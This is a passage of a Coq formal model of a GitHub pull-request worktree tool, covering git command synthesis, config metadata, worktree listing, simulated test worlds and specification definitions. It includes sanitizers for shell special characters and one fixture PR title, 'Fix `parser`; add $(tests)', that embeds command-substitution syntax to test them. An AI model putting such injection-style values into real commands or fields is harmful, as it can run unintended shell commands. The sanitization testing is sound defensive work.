              | Some err => Err (Wrap "invalid push remote URL" err)
              | None =>
                  let mergeRef := "refs/heads/" +:+ headRef in
                  Ok (cmds
                      ++ [ ["-C"; worktreePath; "config";
                            "branch." +:+ branchName +:+ ".pushRemote"; pushRemote] ]
                      ++ tracking mergeRef)
              end
          end
          end
        else Ok (cmds ++ tracking ref)
  end
  end
  end.

Section Effects.
Context {World : Type} `{System World}.

Definition NewCreator (repo : repository.Repository) : M World (result Creator) :=
  r <- git.GetRemotes ;;
  match r with
  | Err err => ret (Err (Wrap "failed to get remotes" err))
  | Ok remotes => ret (Ok {| remotes := remotes; repo := repo |})
  end.

Definition cmdsForExistingRemote (c : Creator) (remote : git.Remote)
    (pr : github.PullRequest) (opts : CheckoutOptions)
    (worktreePath branchName : string) : M World (result (list (list string))) :=
  let headRef := github.Ref (github.Head pr) in
  match validate.BranchName headRef with
  | Some err => ret (Err (Wrap "invalid head ref" err))
  | None =>
  match validate.BranchName branchName with
  | Some err => ret (Err (Wrap "invalid branch name" err))
  | None =>
      let remoteBranch := git.Name remote +:+ "/" +:+ headRef in
      let refSpec :=
        if Detach opts then "+refs/heads/" +:+ headRef
        else "+refs/heads/" +:+ headRef +:+ ":refs/remotes/" +:+ remoteBranch in
      let cmds := [ ["fetch"; git.Name remote; refSpec; "--no-tags"] ] in
      if Detach opts then
        ret (Ok (cmds ++ [ ["worktree"; "add"; "--detach"; worktreePath; "FETCH_HEAD"] ]))
      else
        exists_ <- git.BranchExists branchName ;;
        if exists_ then
          if Force opts then
            ret (Ok (cmds ++
              [ ["worktree"; "add"; "--force"; worktreePath; branchName];
                ["-C"; worktreePath; "reset"; "--hard"; "refs/remotes/" +:+ remoteBranch] ]))
          else
            ret (Ok (cmds ++
              [ ["worktree"; "add"; worktreePath; branchName];
                ["-C"; worktreePath; "merge"; "--ff-only"; "refs/remotes/" +:+ remoteBranch] ]))
        else
          ret (Ok (cmds ++
            [ ["worktree"; "add"; "-b"; branchName; worktreePath; remoteBranch];
              ["-C"; worktreePath; "config"; "branch." +:+ branchName +:+ ".remote"; git.Name remote];
              ["-C"; worktreePath; "config"; "branch." +:+ branchName +:+ ".merge";
               "refs/heads/" +:+ headRef] ]))
  end
  end.

Definition storePRMetadata (c : Creator) (worktreePath : string)
    (pr : github.PullRequest) : M World (option error) :=
  match validate.BranchName (github.Ref (github.Head pr)) with
  | Some err => ret (Some (Wrap "invalid branch name" err))
  | None =>
      let branchName := github.Ref (github.Head pr) in
      let sanitizedTitle := validate.SanitizeForGitConfig (github.Title pr) in
      match validate.PRNumber (github.Number pr) with
      | Some err => ret (Some (Wrap "invalid PR number" err))
      | None =>
          err <- git.SetConfig worktreePath
                   ("branch." +:+ branchName +:+ ".gh-worktree-pr-number")
                   (strconv.Itoa (github.Number pr)) ;;
          match err with
          | Some err => ret (Some (Wrap "failed to set PR number config" err))
          | None =>
              err <- git.SetConfig worktreePath
                       ("branch." +:+ branchName +:+ ".gh-worktree-pr-title")
                       sanitizedTitle ;;
              match err with
              | Some err => ret (Some (Wrap "failed to set PR title config" err))
              | None => ret None
              end
          end
      end
  end.

Definition submoduleCmds : list (list string) :=
  [ ["submodule"; "sync"; "--recursive"];
    ["submodule"; "update"; "--init"; "--recursive"] ].

(** The tail of [Create], from the command queue on. *)
Definition runQueue (c : Creator) (worktreePath : string) (pr : github.PullRequest)
    (opts : CheckoutOptions) (cmds : list (list string)) : M World (option error) :=
  let cmdQueue := cmds ++ (if RecurseSubmodules opts then submoduleCmds else []) in
  err <- git.ExecuteCommands cmdQueue ;;
  match err with
  | Some err => ret (Some err)
  | None =>
      err <- storePRMetadata c worktreePath pr ;;
      match err with
      | Some err => ret (Some (Wrap "failed to store PR metadata" err))
      | None => ret None
      end
  end.

Definition Create (c : Creator) (worktreePath : string) (pr : github.PullRequest)
    (opts : CheckoutOptions) : M World (option error) :=
  match findBaseRemote c with
  | None => ret (Some (Errorf "no suitable remote found"))
  | Some baseRemote =>
      let isCrossRepo :=
        negb (String.eqb (github.Login (github.Owner (github.Repo (github.Head pr))))
                         (repository.Owner (repo c))) in
      let headRemote := if isCrossRepo then findHeadRemote c pr else Some baseRemote in
      let branchName :=
        if negb (String.eqb (BranchName opts) "") then BranchName opts
        else github.Ref (github.Head pr) in
      match headRemote with
      | Some headRemote =>
          r <- cmdsForExistingRemote c headRemote pr opts worktreePath branchName ;;
          match r with
          | Err err => ret (Some (Wrap "failed to create commands for existing remote" err))
          | Ok cmds => runQueue c worktreePath pr opts cmds
          end
      | None =>
          match cmdsForMissingRemote c pr baseRemote opts worktreePath branchName with
          | Err err => ret (Some (Wrap "failed to create commands for missing remote" err))
          | Ok cmds => runQueue c worktreePath pr opts cmds
          end
      end
  end.

(** *** promote.go *)

Definition PromoteToPR (branchName : string) (prNumber : Z) (prTitle : string)
    : M World (option error) :=
  r <- git.GetRoot ;;
  match r with
  | Err err => ret (Some (Wrap "failed to get git root" err))
  | Ok gitRoot =>
      err <- git.SetConfig gitRoot ("branch." +:+ branchName +:+ ".gh-worktree-type") "pr" ;;
      match err with
      | Some err => ret (Some (Wrap "failed to set worktree type" err))
      | None =>
          err <- git.SetConfig gitRoot
                   ("branch." +:+ branchName +:+ ".gh-worktree-pr-number")
                   (strconv.Itoa prNumber) ;;
          match err with
          | Some err => ret (Some (Wrap "failed to set PR number" err))
          | None =>
              err <- git.SetConfig gitRoot
                       ("branch." +:+ branchName +:+ ".gh-worktree-pr-title") prTitle ;;
              match err with
              | Some err => ret (Some (Wrap "failed to set PR title" err))
              | None => ret None
              end
          end
      end
  end.

Definition GetWorktreeType (branchName : string) : M World (result string) :=
  r <- git.GetRoot ;;
  match r with
  | Err err => ret (Err (Wrap "failed to get git root" err))
  | Ok gitRoot =>
      r <- git.GetConfig gitRoot ("branch." +:+ branchName +:+ ".gh-worktree-type") ;;
      match r with
      | Err _ =>
          r <- git.GetConfig gitRoot ("branch." +:+ branchName +:+ ".gh-worktree-pr-number") ;;
          match r with
          | Ok prNumber =>
              if negb (String.eqb prNumber "") then ret (Ok "pr") else ret (Ok "")
          | Err _ => ret (Ok "")
          end
      | Ok worktreeType => ret (Ok (TrimSpace worktreeType))
      end
  end.

Definition SetWorktreeType (branchName worktreeType : string) : M World (option error) :=
  r <- git.GetRoot ;;
  match r with
  | Err err => ret (Some (Wrap "failed to get git root" err))
  | Ok gitRoot =>
      git.SetConfig gitRoot ("branch." +:+ branchName +:+ ".gh-worktree-type") worktreeType
  end.

(** *** worktree.go *)

Record Info : Type := {
  Path : string;
  Commit : string;
  Branch : string;
  PRNumber : Z;
  Title : string
}.

Definition withCommit (wt : Info) (commit : string) : Info :=
  {| Path := Path wt; Commit := commit; Branch := Branch wt;
     PRNumber := PRNumber wt; Title := Title wt |}.

Definition withBranch (wt : Info) (branch : string) : Info :=
  {| Path := Path wt; Commit := Commit wt; Branch := branch;
     PRNumber := PRNumber wt; Title := Title wt |}.

Definition withPRNumber (wt : Info) (prNumber : Z) : Info :=
  {| Path := Path wt; Commit := Commit wt; Branch := Branch wt;
     PRNumber := prNumber; Title := Title wt |}.

Definition withTitle (wt : Info) (title : string) : Info :=
  {| Path := Path wt; Commit := Commit wt; Branch := Branch wt;
     PRNumber := PRNumber wt; Title := title |}.

(** One line of [git worktree list --porcelain]: the worktrees finished
    so far and the one being read. *)
Definition porcelainLine (st : list Info * option Info) (line : string)
    : list Info * option Info :=
  let '(worktrees, currentWorktree) := st in
  if String.eqb line "" then
    match currentWorktree with
    | Some wt => (worktrees ++ [wt], None)
    | None => st
    end
  else if HasPrefix line "worktree " then
    (worktrees,
     Some {| Path := TrimPrefix line "worktree "; Commit := ""; Branch := "";
             PRNumber := 0; Title := "" |})
  else if HasPrefix line "HEAD " then
    (worktrees, (fun wt => withCommit wt (TrimPrefix line "HEAD ")) <$> currentWorktree)
  else if HasPrefix line "branch " then
    let branchRef := TrimPrefix line "branch " in
    let branch :=
      if HasPrefix branchRef "refs/heads/" then TrimPrefix branchRef "refs/heads/"
      else branchRef in
    (worktrees, (fun wt => withBranch wt branch) <$> currentWorktree)
  else st.

Definition List : M World (result (list Info)) :=
  r <- git.GetRoot ;;
  match r with
  | Err err => ret (Err (Wrap "failed to get git root" err))
  | Ok gitRoot =>
      out <- Output ["-C"; gitRoot; "worktree"; "list"; "--porcelain"] ;;
      match out with
      | None => ret (Err (Wrap "failed to get worktree list" ExitError))
      | Some output =>
          let lines := Split (TrimSpace output) (bytes [10]) in
          let '(worktrees, currentWorktree) := fold_left porcelainLine lines ([], None) in
          ret (Ok (match currentWorktree with
                   | Some wt => worktrees ++ [wt]
                   | None => worktrees
                   end))
      end
  end.

Definition GetPRTitle (worktreePath branchName : string) : M World string :=
  if String.eqb branchName "" then ret ""
  else
    r <- git.GetConfig worktreePath ("branch." +:+ branchName +:+ ".gh-worktree-pr-title") ;;
    match r with
    | Err _ => ret ""
    | Ok title => ret title
    end.

(** [filepath.Dir] of a path with its symbolic links resolved, the
    unresolved directory when that fails. *)
Definition resolvedDir (path : string) : M World string :=
  let dir := filepath.Dir path in
  r <- ask (filepath_EvalSymlinks dir) ;;
  match r with
  | Some resolved => ret resolved
  | None => ret (filepath.Dir path)
  end.

(** The naming test that ListPRWorktrees and ListBranchWorktrees both
    spell out: the base name starts with [repoName-pr], is longer than
    that, and [Sscanf] reads one [%d] from what follows. *)
Definition prNumberByName (repoName baseName : string) : option Z :=
  if HasPrefix baseName (repoName +:+ "-pr") then
    let prPrefix := repoName +:+ "-pr" in
    if (len prPrefix <? len baseName)%nat then
      match fmt.Sscanf_d (drop (len prPrefix) baseName) with
      | Ok prNumber => Some prNumber
      | Err _ => None
      end
    else None
  else None.

(** [for _, x := range xs] with a body that appends or continues. *)
Fixpoint collect {A B : Type} (body : A -> M World (option B)) (xs : list A)
    : M World (list B) :=
  match xs with
  | [] => ret []
  | x :: rest =>
      r <- body x ;;
      out <- collect body rest ;;
      ret (match r with Some y => y :: out | None => out end)
  end.

(** The loop body of ListPRWorktrees. *)
Definition prWorktree (repoName gitRoot parentDir : string) (wt : Info)
    : M World (option Info) :=
  if String.eqb (Path wt) gitRoot then ret None
  else
    wtParentDir <- resolvedDir (Path wt) ;;
    if negb (String.eqb wtParentDir parentDir) then ret None
    else
      let baseName := filepath.Base (Path wt) in
      let '(wt, isPRByName) :=
        match prNumberByName repoName baseName with
        | Some prNumber => (withPRNumber wt prNumber, true)
        | None => (wt, false)
        end in
      r <- GetWorktreeType (Branch wt) ;;
      let worktreeType := match r with Ok t => t | Err _ => "" end in
      let isPRByMetadata := String.eqb worktreeType "pr" in
      if isPRByName || isPRByMetadata then
        title <- GetPRTitle (Path wt) (Branch wt) ;;
        let wt := withTitle wt title in
        if (PRNumber wt =? 0)%Z then
          r <- git.GetConfig gitRoot
                 ("branch." +:+ Branch wt +:+ ".gh-worktree-pr-number") ;;
          match r with
          | Ok prNumberStr =>
              if negb (String.eqb prNumberStr "") then
                match strconv.Atoi (TrimSpace prNumberStr) with
                | Ok prNum => ret (Some (withPRNumber wt prNum))
                | Err _ => ret (Some wt)
                end
              else ret (Some wt)
          | Err _ => ret (Some wt)
          end
        else ret (Some wt)
      else ret None.

Definition ListPRWorktrees (repoName : string) : M World (result (list Info)) :=
  r <- List ;;
  match r with
  | Err err => ret (Err err)
  | Ok allWorktrees =>
      r <- git.GetRoot ;;
      match r with
      | Err err => ret (Err (Wrap "failed to get git root" err))
      | Ok gitRoot =>
          parentDir <- resolvedDir gitRoot ;;
          prWorktrees <- collect (prWorktree repoName gitRoot parentDir) allWorktrees ;;
          ret (Ok prWorktrees)
      end
  end.

(** The loop body of ListBranchWorktrees. *)
Definition branchWorktree (repoName gitRoot parentDir : string) (wt : Info)
    : M World (option Info) :=
  if String.eqb (Path wt) gitRoot then ret None
  else
    let baseName := filepath.Base (Path wt) in
    match prNumberByName repoName baseName with
    | Some _ => ret None
    | None =>
        wtParentDir <- resolvedDir (Path wt) ;;
        if HasPrefix baseName (repoName +:+ "-") && String.eqb wtParentDir parentDir then
          r <- GetWorktreeType (Branch wt) ;;
          let worktreeType := match r with Ok t => t | Err _ => "" end in
          if String.eqb worktreeType "branch" || String.eqb worktreeType "" then
            ret (Some wt)
          else ret None
        else ret None
    end.

Definition ListBranchWorktrees (repoName : string) : M World (result (list Info)) :=
  r <- List ;;
  match r with
  | Err err => ret (Err err)
  | Ok allWorktrees =>
      r <- git.GetRoot ;;
      match r with
      | Err err => ret (Err (Wrap "failed to get git root" err))
      | Ok gitRoot =>
          parentDir <- resolvedDir gitRoot ;;
          branchWorktrees <- collect (branchWorktree repoName gitRoot parentDir) allWorktrees ;;
          ret (Ok branchWorktrees)
      end
  end.

Definition ListAllWorktrees (repoName : string)
    : M World (result (list Info * list Info)) :=
  r <- ListPRWorktrees repoName ;;
  match r with
  | Err err => ret (Err err)
  | Ok prWorktrees =>
      r <- ListBranchWorktrees repoName ;;
      match r with
      | Err err => ret (Err err)
      | Ok branchWorktrees => ret (Ok (prWorktrees, branchWorktrees))
      end
  end.

(** [%d] prints the number in decimal. *)
Definition GeneratePath (repoName : string) (prNumber : Z) : M World (result string) :=
  r <- git.GetRoot ;;
  match r with
  | Err err => ret (Err (Wrap "failed to get git root" err))
  | Ok gitRoot =>
      ret (Ok (filepath.Join2 (filepath.Dir gitRoot)
                 (repoName +:+ "-pr" +:+ strconv.Itoa prNumber)))
  end.

Definition GeneratePathForBranch (repoName branchName : string) : M World (result string) :=
  r <- git.GetRoot ;;
  match r with
  | Err err => ret (Err (Wrap "failed to get git root" err))
  | Ok gitRoot =>
      let sanitizedBranchName := ReplaceAll branchName "/" "-" in
      ret (Ok (filepath.Join2 (filepath.Dir gitRoot)
                 (repoName +:+ "-" +:+ sanitizedBranchName)))
  end.

(** [DetectWorktreeType]: "main", "pr" or "branch", from the path alone. *)
Definition DetectWorktreeType (path : string) : M World string :=
  r <- git.GetRoot ;;
  if match r with Ok gitRoot => String.eqb path gitRoot | Err _ => false end
  then ret "main"
  else
    let baseName := filepath.Base path in
    if Contains baseName "-pr" then
      match Split baseName "-pr" with
      | [_; prPart] =>
          match strconv.Atoi prPart with
          | Ok _ => ret "pr"
          | Err _ => ret "branch"
          end
      | _ => ret "branch"
      end
    else ret "branch".

End Effects.
End worktree.

(** ** main.go: the promote command *)

Module cli.
Section Commands.
Context {World : Type} `{System World}.

(** Messages printed to standard output are not modelled. *)
Definition promoteRun (branchName : string) (prNumber : Z) : M World (option error) :=
  match validate.BranchName branchName with
  | Some err => ret (Some (Wrap "invalid branch name" err))
  | None =>
  r <- worktree.GetWorktreeType branchName ;;
  match r with
  | Err err => ret (Some (Wrap "failed to get worktree type" err))
  | Ok worktreeType =>
  if String.eqb worktreeType "pr" then
    ret (Some (Errorf ("branch " +:+ branchName +:+ " is already a PR worktree")))
  else
    (** the PR number, looked up from the branch when it is 0 *)
    found <-
      (if (prNumber =? 0)%Z then
         r <- ask repository_Current ;;
         match r with
         | None => ret (Err (Wrap "failed to get current repository" (LibError "repository")))
         | Some repo =>
             ok <- ask api_DefaultRESTClient ;;
             if negb ok then ret (Err (Wrap "failed to create REST client" (LibError "api")))
             else
               r <- ask (client_Get_pulls
                           ("repos/" +:+ repository.Owner repo +:+ "/" +:+ repository.Name repo
                            +:+ "/pulls?head=" +:+ repository.Owner repo +:+ ":" +:+ branchName
                            +:+ "&state=open")) ;;
               match r with
               | None => ret (Err (Wrap "failed to get PRs for branch" (LibError "api")))
               | Some [] =>
                   ret (Err (Errorf ("no open PR found for branch " +:+ branchName
                     +:+ ". Please create a PR first or specify the PR number")))
               | Some [pr] => ret (Ok (github.Number pr))
               | Some _ =>
                   ret (Err (Errorf ("multiple PRs found for branch " +:+ branchName
                     +:+ ". Please specify the PR number")))
               end
         end
       else ret (Ok prNumber)) ;;
    match found with
    | Err err => ret (Some err)
    | Ok prNumber =>
    r <- ask repository_Current ;;
    match r with
    | None => ret (Some (Wrap "failed to get current repository" (LibError "repository")))
    | Some repo =>
    ok <- ask api_DefaultRESTClient ;;
    if negb ok then ret (Some (Wrap "failed to create REST client" (LibError "api")))
    else
      r <- ask (client_Get_pull
                  ("repos/" +:+ repository.Owner repo +:+ "/" +:+ repository.Name repo
                   +:+ "/pulls/" +:+ strconv.Itoa prNumber)) ;;
      match r with
      | None => ret (Some (Wrap "failed to get PR details" (LibError "api")))
      | Some pr =>
          err <- worktree.PromoteToPR branchName prNumber (github.Title pr) ;;
          match err with
          | Some err => ret (Some (Wrap "failed to promote worktree" err))
          | None => ret None
          end
      end
    end
    end
  end
  end.

End Commands.
End cli.

(** ** A simulated environment

    A small concrete world to run the tool in: the local configuration
    store of the repository (shared by all its worktrees), the local
    branches, what [git rev-parse --git-common-dir] and [git worktree
    list --porcelain] print, and the pull requests the REST API serves.
    Commands other than [config] and [show-ref] succeed and leave the
    world as it is. *)

Module sim.
Import strings.

Record World : Type := {
  config : gmap string string;
  branches : list string;
  commonDir : string;
  cwd : string;
  porcelain : string;
  current : repository.Repository;
  pulls : list github.PullRequest
}.

Definition setConfig (w : World) (key value : string) : World :=
  {| config := <[key := value]> (config w); branches := branches w;
     commonDir := commonDir w; cwd := cwd w; porcelain := porcelain w;
     current := current w; pulls := pulls w |}.

Definition output (args : list string) (w : World) : option string :=
  match args with
  | [a; b] =>
      if String.eqb a "rev-parse" && String.eqb b "--git-common-dir"
      then Some (commonDir w +:+ bytes [10]) else None
  | [a; _; b; c; d] =>
      if String.eqb a "-C" && String.eqb b "config" && String.eqb c "--local"
      then (fun value => value +:+ bytes [10]) <$> config w !! d
      else if String.eqb a "-C" && String.eqb b "worktree" && String.eqb c "list"
              && String.eqb d "--porcelain"
      then Some (porcelain w)
      else None
  | _ => None
  end.

Definition run (args : list string) (w : World) : bool * World :=
  match args with
  | [a; b; c; d] =>
      if String.eqb a "show-ref" && String.eqb b "--verify" && String.eqb c "--quiet"
      then (existsb (fun branch => String.eqb d ("refs/heads/" +:+ branch)) (branches w), w)
      else (true, w)
  | [a; _; b; key; value] =>
      if String.eqb a "-C" && String.eqb b "config"
      then (true, setConfig w key value)
      else (true, w)
  | _ => (true, w)
  end.

Definition pullPath (w : World) (pr : github.PullRequest) : string :=
  "repos/" +:+ repository.Owner (current w) +:+ "/" +:+ repository.Name (current w)
  +:+ "/pulls/" +:+ strconv.Itoa (github.Number pr).

Definition pullsPath (w : World) (pr : github.PullRequest) : string :=
  "repos/" +:+ repository.Owner (current w) +:+ "/" +:+ repository.Name (current w)
  +:+ "/pulls?head=" +:+ repository.Owner (current w) +:+ ":"
  +:+ github.Ref (github.Head pr) +:+ "&state=open".

#[global] Instance system : System World := {|
  git_Output := output;
  git_Run := run;
  os_Getwd := fun w => Some (cwd w);
  filepath_EvalSymlinks := fun path _ => Some path;
  repository_Current := fun w => Some (current w);
  api_DefaultRESTClient := fun _ => true;
  client_Get_pulls := fun path w =>
    Some (filter (fun pr => String.eqb path (pullsPath w pr)) (pulls w));
  client_Get_pull := fun path w =>
    List.find (fun pr => String.eqb path (pullPath w pr)) (pulls w)
|}.

Definition start (w : World) : Machine World := {| world := w; gitlog := [] |}.

(** A fork pull request and a repository to check it out in. *)
Definition pr42 : github.PullRequest := {|
  github.Number := 42;
  github.Title := "Fix `parser`; add $(tests)";
  github.Head := {| github.Ref := "fix-parser";
                    github.Repo := {| github.Name := "my-repo";
                                      github.Owner := {| github.Login := "alice" |} |} |};
  github.Base := {| github.BaseRepo := {| github.FullName := "acme/my-repo" |} |};
  github.MaintainerCanModify := true
|}.

(** The same pull request, from a branch of the repository itself. *)
Definition pr43 : github.PullRequest := {|
  github.Number := 43;
  github.Title := "Tidy up";
  github.Head := {| github.Ref := "tidy";
                    github.Repo := {| github.Name := "my-repo";
                                      github.Owner := {| github.Login := "acme" |} |} |};
  github.Base := {| github.BaseRepo := {| github.FullName := "acme/my-repo" |} |};
  github.MaintainerCanModify := false
|}.

Definition acme : repository.Repository :=
  {| repository.Host := "github.com"; repository.Name := "my-repo";
     repository.Owner := "acme" |}.

Definition origin : git.Remote :=
  {| git.Name := "origin"; git.URL := "https://github.com/acme/my-repo.git" |}.

Definition upstream : git.Remote :=
  {| git.Name := "upstream"; git.URL := "https://github.com/acme/my-repo.git" |}.

Definition creator : worktree.Creator :=
  {| worktree.remotes := [origin]; worktree.repo := acme |}.

Definition detached : worktree.CheckoutOptions :=
  {| worktree.RecurseSubmodules := false; worktree.Force := false;
     worktree.Detach := true; worktree.BranchName := "" |}.

Definition plain : worktree.CheckoutOptions :=
  {| worktree.RecurseSubmodules := false; worktree.Force := false;
     worktree.Detach := false; worktree.BranchName := "" |}.

Definition renamed : worktree.CheckoutOptions :=
  {| worktree.RecurseSubmodules := true; worktree.Force := false;
     worktree.Detach := false; worktree.BranchName := "review" |}.

(** The main worktree at /w/my-repo, and two more next to it: one made
    for pull request 42, one made for the local branch pr12-fix (its
    path is what GeneratePathForBranch gives for that branch). *)
Definition listing : string := Eval cbv in
  Join [ "worktree /w/my-repo"; "HEAD 1111"; "branch refs/heads/main"; "";
         "worktree /w/my-repo-pr42"; "HEAD 2222"; "branch refs/heads/fix-parser"; "";
         "worktree /w/my-repo-pr12-fix"; "HEAD 3333"; "branch refs/heads/pr12-fix"; "";
         "worktree /w/my-repo-feature-x"; "HEAD 4444"; "branch refs/heads/feature-x"; "" ]
       (bytes [10]).

Definition repoWorld (cfg : gmap string string) : World :=
  {| config := cfg; branches := ["main"]; commonDir := "/w/my-repo/.git";
     cwd := "/w/my-repo"; porcelain := listing; current := acme;
     pulls := [pr42; pr43] |}.

End sim.

(** A second, smaller world: it only answers [git remote -v], with the
    text it is made of. *)

Module remotesim.
Import strings.

Definition World : Type := string.

Definition output (args : list string) (w : World) : option string :=
  match args with
  | [a; b] => if String.eqb a "remote" && String.eqb b "-v" then Some w else None
  | _ => None
  end.

#[global] Instance system : System World := {|
  git_Output := output;
  git_Run := fun _ w => (true, w);
  os_Getwd := fun _ => None;
  filepath_EvalSymlinks := fun _ _ => None;
  repository_Current := fun _ => None;
  api_DefaultRESTClient := fun _ => false;
  client_Get_pulls := fun _ _ => None;
  client_Get_pull := fun _ _ => None
|}.

(** What git prints for a clone of acme/my-repo with the fork of alice
    as a second remote: a fetch and a push line for each. *)
Definition printed : World := Eval cbv in
  Join [ "origin" +:+ bytes [9] +:+ "https://github.com/acme/my-repo.git (fetch)";
         "origin" +:+ bytes [9] +:+ "https://github.com/acme/my-repo.git (push)";
         "alice" +:+ bytes [9] +:+ "https://github.com/alice/my-repo.git (fetch)";
         "alice" +:+ bytes [9] +:+ "https://github.com/alice/my-repo.git (push)" ]
       (bytes [10])
  +:+ bytes [10].

Definition start : Machine World := {| world := printed; gitlog := [] |}.

End remotesim.

(** A third world: the simulated repository with a configuration that
    takes a given number of commands and refuses every one after them,
    as a disk that fills up does. *)

Module locksim.

Record World : Type := {
  repo : sim.World;
  writesLeft : nat
}.

Definition run (args : list string) (w : World) : bool * World :=
  match writesLeft w with
  | O => (false, w)
  | S n => let '(ok, r) := sim.run args (repo w) in (ok, {| repo := r; writesLeft := n |})
  end.

#[global] Instance system : System World := {|
  git_Output := fun args w => sim.output args (repo w);
  git_Run := run;
  os_Getwd := fun w => Some (sim.cwd (repo w));
  filepath_EvalSymlinks := fun path _ => Some path;
  repository_Current := fun w => Some (sim.current (repo w));
  api_DefaultRESTClient := fun _ => true;
  client_Get_pulls := fun path w => client_Get_pulls path (repo w);
  client_Get_pull := fun path w => client_Get_pull path (repo w)
|}.

Definition start (n : nat) (w : sim.World) : Machine World :=
  {| world := {| repo := w; writesLeft := n |}; gitlog := [] |}.

End locksim.

(** ** Vocabulary of the statements

    The notions the properties are phrased in, apart from the code. *)

Module spec.
Import strings.

(** A byte of the class [A-Za-z0-9._/-]. *)
Definition branchNameChar (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((65 <=? n)%nat && (n <=? 90)%nat) || ((97 <=? n)%nat && (n <=? 122)%nat)
  || ((48 <=? n)%nat && (n <=? 57)%nat)
  || Ascii.eqb c "." || Ascii.eqb c "_" || Ascii.eqb c "/" || Ascii.eqb c "-".

(** Non-empty, at most 255 bytes, only bytes of the class, no leading
    dash, no trailing slash.  (The bytes of the class are ASCII, so for
    such a name bytes and characters are the same.) *)
Definition wellFormedBranchName (name : string) : Prop :=
  name <> ""
  /\ (len name <= 255)%nat
  /\ all branchNameChar name = true
  /\ (forall rest, name <> "-" +:+ rest)
  /\ (forall front, name <> front +:+ "/").

(** Replace every byte [c] of [s] by [new]. *)
Fixpoint substByte (c : ascii) (new : string) (s : string) : string :=
  match s with
  | "" => ""
  | String x s' =>
      if Ascii.eqb x c then new +:+ substByte c new s'
      else String x (substByte c new s')
  end.

(** The byte [x] is none of [cs]. *)
Definition avoids (cs : list ascii) (x : ascii) : bool :=
  forallb (fun c => negb (Ascii.eqb x c)) cs.

(** The bytes the sanitizer replaces, in the order it does, with their
    replacements: NUL, newline, carriage return and tab, then the shell
    special characters. *)
Definition sanitizerRules : list (ascii * string) := Eval cbv in
  [ (byte 0, ""); (byte 10, " "); (byte 13, " "); (byte 9, " ") ]
  ++ map (fun char => match char with String c _ => (c, "") | "" => (byte 0, "") end)
         validate.shellSpecial.

Definition applyRules (rules : list (ascii * string)) (s : string) : string :=
  fold_left (fun value rule => substByte (fst rule) (snd rule) value) rules s.

Definition notSlash (c : ascii) : bool := negb (Ascii.eqb c "/").

(** A pull-request number is in range when it is one of 1..999999. *)
Definition inRange (n : Z) : Prop := (1 <= n <= 999999)%Z.

(** The selector is the bare integer [n]: it reads as [n] (an optional
    sign and decimal digits, white space around them ignored). *)
Definition bareInteger (selector : string) (n : Z) : Prop :=
  strconv.Atoi (TrimSpace selector) = Ok n.


(** The same, the [/pull/] being the first one of the selector. *)
Definition firstPullURL (selector : string) (n : Z) : Prop :=
  validate.URL selector = None
  /\ exists front digits,
       selector = front +:+ "/pull/" +:+ digits
       /\ Index selector "/pull/" = Some (len front)
       /\ strconv.Atoi (TrimSpace digits) = Ok n.

(** *** Commands that write the configuration

    [git -C <path> config <key> <value>] sets [key] to [value]. *)
Definition configSet (cmd : list string) : option (string * string) :=
  match cmd with
  | [a; _; b; key; value] =>
      if String.eqb a "-C" && String.eqb b "config" then Some (key, value) else None
  | _ => None
  end.

(** The configuration writes of a list of commands, in order. *)
Definition configWrites (cmds : list (list string)) : list (string * string) :=
  omap configSet cmds.

(** The values a list of commands sets [key] to, in order. *)
Definition valuesFor (key : string) (cmds : list (list string)) : list string :=
  map snd (List.filter (fun kv => String.eqb (fst kv) key) (configWrites cmds)).

(** The keys of a branch: its tracking configuration and the metadata
    of the tool. *)
Definition remoteKey (branch : string) : string := "branch." +:+ branch +:+ ".remote".
Definition mergeKey (branch : string) : string := "branch." +:+ branch +:+ ".merge".
Definition pushRemoteKey (branch : string) : string := "branch." +:+ branch +:+ ".pushRemote".
Definition typeKey (branch : string) : string := "branch." +:+ branch +:+ ".gh-worktree-type".
Definition prNumberKey (branch : string) : string :=
  "branch." +:+ branch +:+ ".gh-worktree-pr-number".
Definition prTitleKey (branch : string) : string :=
  "branch." +:+ branch +:+ ".gh-worktree-pr-title".

(** The command that sets [key] to [value], run in [path]. *)
Definition setCmd (path key value : string) : list string :=
  ["-C"; path; "config"; key; value].

(** [refs/pull/<number>/head] *)
Definition pullRef (number : Z) : string :=
  "refs/pull/" +:+ strconv.Itoa number +:+ "/head".

(** [https://github.com/<owner>/<repo>] *)
Definition forkURL (owner repo : string) : string :=
  "https://github.com/" +:+ owner +:+ "/" +:+ repo.

(** Does the pull request name a fork the maintainers may push to? *)
Definition pushable (pr : github.PullRequest) : bool :=
  github.MaintainerCanModify pr
  && negb (String.eqb (github.Name (github.Repo (github.Head pr))) "").

(** The branch a worktree is created on: the override of the options
    when there is one, the head ref of the pull request otherwise. *)
Definition branchFor (pr : github.PullRequest) (opts : worktree.CheckoutOptions) : string :=
  if negb (String.eqb (worktree.BranchName opts) "") then worktree.BranchName opts
  else github.Ref (github.Head pr).

(** The two writes of storePRMetadata. *)
Definition metadataCmds (path : string) (pr : github.PullRequest) : list (list string) :=
  [ setCmd path (prNumberKey (github.Ref (github.Head pr)))
      (strconv.Itoa (github.Number pr));
    setCmd path (prTitleKey (github.Ref (github.Head pr)))
      (validate.SanitizeForGitConfig (github.Title pr)) ].

(** A [git worktree add] command that names [branch]. *)
Definition addsWorktreeOn (branch : string) (cmd : list string) : Prop :=
  List.firstn 2 cmd = ["worktree"; "add"] /\ In branch cmd.

(** What a synthesized batch looks like, for the branch [branch]: with
    Detach it writes no configuration; the keys it writes are those of
    the branch's push remote, remote and merge ref; and without Detach it
    adds a worktree on the branch. *)
Definition batchFor (opts : worktree.CheckoutOptions) (branch : string)
    (cmds : list (list string)) : Prop :=
  (worktree.Detach opts = true -> configWrites cmds = [])
  /\ (forall kv, In kv (configWrites cmds) ->
        In (fst kv) [pushRemoteKey branch; remoteKey branch; mergeKey branch])
  /\ (worktree.Detach opts = false -> exists cmd, In cmd cmds /\ addsWorktreeOn branch cmd).

(** The commands run between two states of a run. *)
Definition commandsRun {World : Type} (before after : Machine World) : list (list string) :=
  List.skipn (length (gitlog before)) (gitlog after).

(** A key of the form [branch.<name>.remote] or [branch.<name>.merge]. *)
Definition trackingKey (key : string) : bool :=
  HasPrefix key "branch." && (HasSuffix key ".remote" || HasSuffix key ".merge").

(** The writes of tracking configuration among those of a list of
    commands. *)
Definition trackingWrites (cmds : list (list string)) : list (string * string) :=
  List.filter (fun kv => trackingKey (fst kv)) (configWrites cmds).

(** A key of the form [branch.<name>.gh-worktree-pr-number] or
    [branch.<name>.gh-worktree-pr-title]. *)
Definition prMetadataKey (key : string) : bool :=
  HasPrefix key "branch."
